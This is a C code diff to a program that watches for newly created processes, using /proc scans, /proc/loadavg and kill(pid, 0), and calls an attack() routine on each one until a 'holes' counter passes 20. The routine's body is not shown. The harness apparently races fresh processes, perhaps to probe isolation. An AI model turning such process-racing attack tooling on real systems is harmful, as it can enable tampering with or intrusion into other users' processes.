@@ -10,6 +10,7 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -57,12 +58,27 @@ static void attack(int pid)
 	}
 }
 
-/* The numbers of processes rise by one: look at the next few without reading the directory. */
+/* The last number given to a process of this pid namespace: the end of /proc/loadavg. */
+static int last_pid(void)
+{
+	char text[128], *end;
+	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
+	ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof(text) - 1);
+
+	if (fd >= 0)
+		close(fd);
+	if (n <= 0)
+		return 0;
+	text[n] = '\0';
+	end = strrchr(text, ' ');
+	return end ? atoi(end) : 0;
+}
+
 int main(int argc, char **argv)
 {
 	struct dirent *entry;
 	DIR *proc = opendir("/proc");
-	int top = 1;
+	int last = 1;
 
 	if (argc != 2 || !proc)
 		return 2;
@@ -71,7 +87,7 @@ int main(int argc, char **argv)
 
 		if (pid > 0 && pid < PID_LIMIT) {
 			known[pid] = 1;
-			top = pid > top ? pid : top;
+			last = pid > last ? pid : last;
 		}
 	}
 	closedir(proc);
@@ -80,19 +96,15 @@ int main(int argc, char **argv)
 	for (long round = 0;; round++) {
 		if (round % 256 == 0 && access(argv[1], F_OK) == 0)
 			break;
-		for (int pid = top > 8 ? top - 8 : 1; pid < top + 8 && pid < PID_LIMIT; pid++) {
-			char path[32];
-
-			if (known[pid])
-				continue;
-			snprintf(path, sizeof(path), "/proc/%d", pid);
-			if (access(path, F_OK) < 0)
+		if (last_pid() > last)
+			last = last_pid();
+		for (int pid = last > 8 ? last - 8 : 1; pid <= last + 1 && pid < PID_LIMIT; pid++) {
+			if (known[pid] || (kill(pid, 0) < 0 && errno == ESRCH))
 				continue;
 			if (!counted[pid]) {
 				counted[pid] = 1;
 				seen++;
 			}
-			top = pid > top ? pid : top;
 			attack(pid);
 			if (holes > 20)
 				break;
